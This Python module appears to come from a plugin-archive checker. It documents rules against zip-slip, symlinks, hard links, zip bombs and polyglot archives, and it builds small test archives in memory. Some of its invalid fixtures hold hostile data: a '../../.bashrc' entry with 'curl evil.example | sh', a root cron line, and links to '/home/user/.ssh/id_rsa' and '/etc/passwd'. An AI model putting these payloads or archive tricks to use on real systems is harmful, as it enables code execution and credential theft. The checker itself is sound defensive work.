"""Archive rules (MB6xx): what :mod:`mbcheck.archive.inspect` finds in a plugin archive.

The archive inspection reports problems with its own codes (``MBA0nn``);
each maps to the rule ``MB6nn`` here, which documents it. The findings are
made before any file of the archive is analysed (nothing is ever extracted)
and concern the archive as a whole; the entry's name is in the message.

The rules' examples are archives, assembled here in memory when the module
is imported (a few kilobytes; nothing is written to disk). Where a limit
would take hundreds of megabytes to cross, the example's headers declare the
sizes, which the inspection judges before reading any data.

This module imports no libcst.
"""

from __future__ import annotations

import io
import lzma
import stat
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterable, Mapping, Sequence
from gzip import compress as gzip_compress
from pathlib import Path
from typing import ClassVar

from mbcheck.model import Category, Confidence, Finding, Severity, Span
from mbcheck.rules.base import EXAMPLE_INIT, EXAMPLE_MANIFEST, Example, Invalid, Rule, Valid

# --------------------------------------------------------------------------- example archives

_MIB = 1024 * 1024
_DATE = (1980, 1, 1, 0, 0, 0)

#: the example plugin's `__init__.py`: the smallest that keeps the plugin contract

ZipEntry = tuple[str | zipfile.ZipInfo, bytes]


def _plugin(root: str = "example") -> list[ZipEntry]:
    """The example plugin's files under the directory ``root``."""
    return [(f"{root}/plugin.yaml", EXAMPLE_MANIFEST.encode()), (f"{root}/__init__.py", EXAMPLE_INIT.encode())]


def _zip(entries: Iterable[ZipEntry], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A zip archive of ``entries`` (names or prepared headers, and data), built in memory."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zf:
        for name, data in entries:
            info = zipfile.ZipInfo(name, _DATE) if isinstance(name, str) else name
            if isinstance(name, str):
                info.external_attr = (stat.S_IFREG | 0o644) << 16
            zf.writestr(info, data, compress_type=compression)
    return buffer.getvalue()


def _tar_gz(members: Iterable[tuple[str, bytes, bytes, str]]) -> bytes:
    """A gzip-compressed tar archive of (name, tar type, data, link target), built in memory."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as tf:
        for name, kind, data, link in members:
            info = tarfile.TarInfo(name)
            info.type = kind
            info.linkname = link
            info.mode = 0o644
            info.size = len(data) if kind == tarfile.REGTYPE else 0
            tf.addfile(info, io.BytesIO(data) if kind == tarfile.REGTYPE else None)
    return gzip_compress(buffer.getvalue(), mtime=0)


def _tar_plugin(*extra: tuple[str, bytes, bytes, str]) -> bytes:
    files = [(str(name), tarfile.REGTYPE, data, "") for name, data in _plugin()]
    return _tar_gz([*files, *extra])


#: header fields of a zip entry: (offset in the central header, offset in the local header or -1, format)
_FIELDS = {
    "flag_bits": (8, 6, "<H"),
    "compress_type": (10, 8, "<H"),
    "crc": (16, 14, "<L"),
    "compress_size": (20, 18, "<L"),
    "file_size": (24, 22, "<L"),
    "header_offset": (42, -1, "<L"),
}


def _patched(data: bytes, name: str, *, local: bool = True, **fields: int) -> bytes:
    """``data`` with header fields of the zip entry ``name`` overwritten (central and local headers)."""
    out = bytearray(data)
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        header = zf.getinfo(name).header_offset
        at = zf.start_dir
    while out[at : at + 4] == b"PK\x01\x02":
        name_len, extra_len, comment_len = struct.unpack_from("<3H", out, at + 28)
        if out[at + 46 : at + 46 + name_len] == name.encode():
            for key, value in fields.items():
                central, local_at, fmt = _FIELDS[key]
                struct.pack_into(fmt, out, at + central, value)
                if local and local_at >= 0:
                    struct.pack_into(fmt, out, header + local_at, value)
        at += 46 + name_len + extra_len + comment_len
    return bytes(out)


def _lzma_zip(entries: Iterable[tuple[str, bytes]]) -> bytes:
    """A zip of LZMA-compressed entries (method 14), with a small dictionary so building is cheap."""
    filters = [{"id": lzma.FILTER_LZMA1, "dict_size": 4096, "lc": 3, "lp": 0, "pb": 2}]
    header = struct.pack("<BBHBI", 9, 4, 5, (2 * 5 + 0) * 9 + 3, 4096)  # LZMA SDK 9.4, the 5 property bytes
    files = [(name, data, lzma.LZMACompressor(lzma.FORMAT_RAW, filters=filters)) for name, data in entries]
    data = _zip([(name, header + packer.compress(raw) + packer.flush()) for name, raw, packer in files], zipfile.ZIP_STORED)
    for name, raw, _ in files:
        data = _patched(data, name, compress_type=zipfile.ZIP_LZMA, flag_bits=0x2, file_size=len(raw), crc=zlib.crc32(raw))
    return data


def _declaring_members(data: bytes, count: int) -> bytes:
    """``data`` (a zip without comment) whose end record declares ``count`` members."""
    end = len(data) - 22
    return data[: end + 8] + struct.pack("<2H", count, count) + data[end + 12 :]


def _symlink(name: str) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name, _DATE)
    info.create_system = 3
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    return info


_CLEAN = _zip(_plugin())
_CLEAN_TAR = _tar_plugin()
_PLAIN = _zip(
    [*_plugin(), ("example/cli.py", b"def main() -> None:\n    print('hello')\n")],
)


def _declared(sizes: Mapping[str, int]) -> bytes:
    """A zip whose stored entries' headers declare ``sizes``; the data is not there to read."""
    data = _zip([*_plugin(), *((name, b"\0" * 16) for name in sizes)], zipfile.ZIP_STORED)
    for name, size in sizes.items():
        data = _patched(data, name, file_size=size, compress_size=size)
    return data


def _flagged(archive: bytes, archive_name: str = "example.zip") -> Invalid:
    """An INVALID archive example: every archive finding is about the archive as a whole."""
    return Invalid(archive=archive, archive_name=archive_name, path="")


_FINE = Valid(archive=_CLEAN)
_FINE_TAR = Valid(archive=_CLEAN_TAR, archive_name="example.tar.gz")


class ArchiveRule(Rule):
    """A problem :mod:`mbcheck.archive.inspect` finds while reading an archive (never extracted).

    Why: the host's installer extracts archives without checks.
    Instead: build the archive with standard tools from the plugin directory.
    """

    category = Category.ARCHIVE
    severity = Severity.ERROR
    confidence = Confidence.HIGH
    #: the archive module's problem code this rule documents
    problem: ClassVar[str] = ""
    VALID: ClassVar[Sequence[Example]] = (_FINE,)


class UnreadableArchive(ArchiveRule):
    """The file is not a readable archive: corrupt, truncated, empty, or of an unsupported format.

    Why: what cannot be read cannot be judged; an installer that tries anyway
    may extract part of it, or something other than what a checker saw.
    Instead: rebuild the archive as a zip, wheel or (gzip-compressed) tar from the plugin directory.
    """

    code = "MB601"
    name = "unreadable-archive"
    problem = "MBA001"
    VALID = (_FINE, _FINE_TAR)
    INVALID = (_flagged(_CLEAN[: len(_CLEAN) // 2]), _flagged(b"just some text", "example.tar.gz"))


class ArchivePathTraversal(ArchiveRule):
    """An entry name climbs out of the extraction directory with `..` (zip-slip).

    Why: an extractor without path checks (a tar without an extraction filter,
    a hand-written installer loop) writes an entry named `../../.bashrc`
    outside the plugin directory, anywhere the user can write.
    Instead: archive the plugin directory itself; entry names are relative paths below it.
    """

    code = "MB602"
    name = "archive-path-traversal"
    problem = "MBA002"
    VALID = (_FINE, Valid(archive=_zip([*_plugin(), ("./example/notes..txt", b"dots inside a name are fine")])))
    INVALID = (_flagged(_zip([*_plugin(), ("../../.bashrc", b"curl evil.example | sh\n")])),)


class ArchiveAbsolutePath(ArchiveRule):
    """An entry name is an absolute path, a drive-letter path or a UNC path.

    Why: extracted naively, such an entry is written wherever its name says,
    outside the plugin directory.
    Instead: use relative entry names (archive from inside the parent directory).
    """

    code = "MB603"
    name = "archive-absolute-path"
    problem = "MBA003"
    INVALID = (_flagged(_zip([*_plugin(), ("/etc/cron.d/example", b"* * * * * root sh\n")])),)


class ArchiveUnsafeName(ArchiveRule):
    """An entry name holds a backslash, a control character, undecodable bytes or a dots-only part.

    Why: extractors on different systems read such names differently (a
    backslash is a separator on Windows; `...` and trailing dots are stripped),
    so the files written are not the files checked.
    Instead: use plain POSIX names: letters, digits, `_`, `-`, `.` and `/` as the separator.
    """

    code = "MB604"
    name = "archive-unsafe-name"
    problem = "MBA004"
    INVALID = (_flagged(_zip([*_plugin(), ("example\\cli.py", b"print(1)\n")])),)


class ArchiveSymlink(ArchiveRule):
    """An entry is a symbolic link.

    Why: a link extracted into the plugin can point anywhere on the user's
    system; a later entry written through it escapes the plugin directory.
    Instead: put the file itself in the archive.
    """

    code = "MB605"
    name = "archive-symlink"
    problem = "MBA005"
    VALID = (_FINE, Valid(archive=_zip([*_plugin(), ("example/config.py", b"GREETING = 'hello'\n")])))
    INVALID = (_flagged(_zip([*_plugin(), (_symlink("example/config.py"), b"/home/user/.ssh/id_rsa")])),)


class ArchiveHardLink(ArchiveRule):
    """An entry is a hard link.

    Why: a hard link extracted from a tar archive can make a plugin file share
    its content with a file outside the plugin, which extraction then overwrites.
    Instead: put the file itself in the archive.
    """

    code = "MB606"
    name = "archive-hard-link"
    problem = "MBA006"
    VALID = (_FINE_TAR,)
    INVALID = (_flagged(_tar_plugin(("example/config.py", tarfile.LNKTYPE, b"", "/etc/passwd")), "example.tar.gz"),)


class ArchiveSpecialFile(ArchiveRule):
    """An entry is a device, FIFO, socket or another kind of file that is not regular.

    Why: a plugin is Python source and data files; a device node or FIFO has
    no business in it and can block or harm the extracting process.
    Instead: ship only regular files and directories.
    """

    code = "MB607"
    name = "archive-special-file"
    problem = "MBA007"
    VALID = (_FINE_TAR,)
    INVALID = (_flagged(_tar_plugin(("example/pipe", tarfile.FIFOTYPE, b"", "")), "example.tar.gz"),)


class ArchiveDuplicateName(ArchiveRule):
    """Two entries name the same path (after case and Unicode folding), or a file is also a directory.

    Why: which entry wins depends on the extractor and the file system, so the
    file the host loads may not be the one that was checked.
    Instead: give every file one unique name.
    """

    code = "MB608"
    name = "archive-duplicate-name"
    problem = "MBA008"
    VALID = (_FINE, Valid(archive=_PLAIN))
    INVALID = (
        _flagged(_zip([*_plugin(), ("example/cli.py", b"print('checked')\n"), ("example/CLI.py", b"print('run')\n")])),
        _flagged(_zip([*_plugin(), ("example/cli", b"a file"), ("example/cli/main.py", b"print(1)\n")])),
    )


class ArchiveEncryptedEntry(ArchiveRule):
    """An entry is encrypted, so its content cannot be checked.

    Why: an encrypted entry hides its code from every check, including this one.
    Instead: publish the archive unencrypted; use the marketplace's transport for confidentiality.
    """

    code = "MB609"
    name = "archive-encrypted-entry"
    problem = "MBA009"
    INVALID = (_flagged(_patched(_PLAIN, "example/cli.py", flag_bits=0x1)),)


class ArchiveTooManyMembers(ArchiveRule):
    """The archive has more members than the limit.

    Why: a huge number of tiny entries exhausts the extractor (and the file
    system's inodes); no plugin needs that many files.
    Instead: ship only the plugin's files; leave caches and build output out of the archive.
    """

    code = "MB610"
    name = "archive-too-many-members"
    problem = "MBA010"
    # the end record declares the members: a zip really holding 10,001 would weigh a megabyte
    INVALID = (_flagged(_declaring_members(_CLEAN, 10_001)),)


class ArchiveMemberTooLarge(ArchiveRule):
    """An entry's uncompressed size, declared or counted while reading, is beyond the limit.

    Why: one oversized entry fills the user's disk when extracted.
    Instead: download large data at run time to a cache the user controls, not inside the plugin.
    """

    code = "MB611"
    name = "archive-member-too-large"
    problem = "MBA011"
    INVALID = (_flagged(_declared({"example/model.bin": 60 * _MIB})),)


class ArchiveTooLarge(ArchiveRule):
    """The archive's total uncompressed size, declared or counted while reading, is beyond the limit.

    Why: extraction would fill the user's disk; the inspection stops reading
    as soon as the limit is crossed.
    Instead: keep the plugin small; ship data separately.
    """

    code = "MB612"
    name = "archive-too-large"
    problem = "MBA012"
    INVALID = (_flagged(_declared({f"example/data{i}.bin": 45 * _MIB for i in range(5)})),)


class ArchiveCompressionRatio(ArchiveRule):
    """An entry or the whole archive expands beyond the allowed ratio (a zip bomb).

    Why: a few kilobytes that expand to gigabytes exhaust the disk or memory
    of whatever extracts them; the inspection counts the bytes it decompresses
    and stops at the limit.
    Instead: ordinary source and data compress far below the limit; remove the padding.
    """

    code = "MB613"
    name = "archive-compression-ratio"
    problem = "MBA013"
    # blank lines compress 1000:1 too, but a file under a megabyte is never judged by its ratio
    VALID = (_FINE, Valid(archive=_zip([*_plugin(), ("example/blank.txt", b"\n" * 200_000)])))
    INVALID = (_flagged(_zip([*_plugin(), ("example/data.bin", bytes(2 * _MIB))])),)


class ArchiveInconsistentEntry(ArchiveRule):
    """An entry's headers disagree with each other or with its data (name, method, sizes, CRC), or its data is corrupt.

    Why: tools that trust different headers see different files: what a
    checker reads may not be what the installer writes.
    Instead: rebuild the archive with a standard tool.
    """

    code = "MB614"
    name = "archive-inconsistent-entry"
    problem = "MBA014"
    INVALID = (_flagged(_PLAIN.replace(b"example/cli.py", b"example/evl.py", 1)),)


class ArchiveUnsupportedCompression(ArchiveRule):
    """An entry uses a compression method whose size mbcheck cannot count safely.

    Why: an entry that cannot be decompressed with bounded memory cannot be
    checked without risking a bomb.
    Instead: use deflate (the zip default), bzip2 or no compression.
    """

    code = "MB615"
    name = "archive-unsupported-compression"
    problem = "MBA015"
    VALID = (_FINE, Valid(archive=_zip(_plugin(), zipfile.ZIP_STORED)), Valid(archive=_zip(_plugin(), zipfile.ZIP_BZIP2)))
    INVALID = (_flagged(_lzma_zip((str(name), data) for name, data in _plugin())),)


class ArchiveOverlappingEntries(ArchiveRule):
    """Entries share or overlap their data in the archive (a zip bomb technique).

    Why: overlapping entries let a small file expand to many times its size,
    and make different tools see different contents.
    Instead: rebuild the archive with a standard tool.
    """

    code = "MB616"
    name = "archive-overlapping-entries"
    problem = "MBA016"
    INVALID = (_flagged(_patched(_PLAIN, "example/cli.py", local=False, header_offset=0)),)


class ArchiveMultipleRoots(ArchiveRule):
    """The archive holds more than one plugin root at its shallowest level.

    Why: an installer expects one plugin per archive; which one it installs
    (and which one was checked) is ambiguous.
    Instead: publish one archive per plugin, with the plugin directory (or its files) at the top.
    """

    code = "MB617"
    name = "archive-multiple-roots"
    problem = "MBA017"
    VALID = (_FINE, Valid(archive=_zip([("README.md", b"# example\n"), *_plugin(), ("example/sub/__init__.py", b"")])))
    INVALID = (_flagged(_zip([*_plugin("one"), *_plugin("two")])),)


class ArchiveAmbiguousFormat(ArchiveRule):
    """The file reads as more than one archive format, or has data before its first zip entry.

    Why: a polyglot file shows one content to a checker and another to an
    installer that recognises it differently.
    Instead: publish a plain zip, wheel or tar archive.
    """

    code = "MB618"
    name = "archive-ambiguous-format"
    problem = "MBA018"
    INVALID = (
        _flagged(b"#!/bin/sh\nexec python3 -m example\n" + _CLEAN),
        _flagged(_CLEAN_TAR + _CLEAN, "example.tar.gz"),
    )


#: the archive module's problem code -> the rule documenting it
RULES: Mapping[str, type[ArchiveRule]] = {
    cls.problem: cls
    for cls in (
        UnreadableArchive, ArchivePathTraversal, ArchiveAbsolutePath, ArchiveUnsafeName, ArchiveSymlink,
        ArchiveHardLink, ArchiveSpecialFile, ArchiveDuplicateName, ArchiveEncryptedEntry, ArchiveTooManyMembers,
        ArchiveMemberTooLarge, ArchiveTooLarge, ArchiveCompressionRatio, ArchiveInconsistentEntry,
        ArchiveUnsupportedCompression, ArchiveOverlappingEntries, ArchiveMultipleRoots, ArchiveAmbiguousFormat,
    )
}


def finding_for(code: str, message: str) -> Finding:
    """An archive problem as a finding about the plugin as a whole (unknown codes: unreadable)."""
    rule = RULES.get(code, UnreadableArchive)
    text = message if code in RULES else f"{message} ({code})"
    return rule.finding(Span(""), text)


def default_package(archive: Path) -> str:
    """The import name of a plugin whose files sit at the archive's top level."""
    name = archive.name
    if name.lower().endswith(".whl"):
        return name.split("-", 1)[0]
    return name.split(".", 1)[0]


def read_archive(archive: Path) -> tuple[dict[str, bytes], list[Finding], str]:
    """The plugin's files in ``archive`` (in memory), its problems as findings, and its package name."""
    from mbcheck.archive.inspect import inspect_archive

    contents = inspect_archive(archive)
    problems = [finding_for(problem.code, problem.message) for problem in contents.problems]
    package = contents.root.rsplit("/", 1)[-1] if contents.root else default_package(archive)
    return dict(contents.files), problems, package


__all__ = ["RULES", "ArchiveRule", "default_package", "finding_for", "read_archive"]
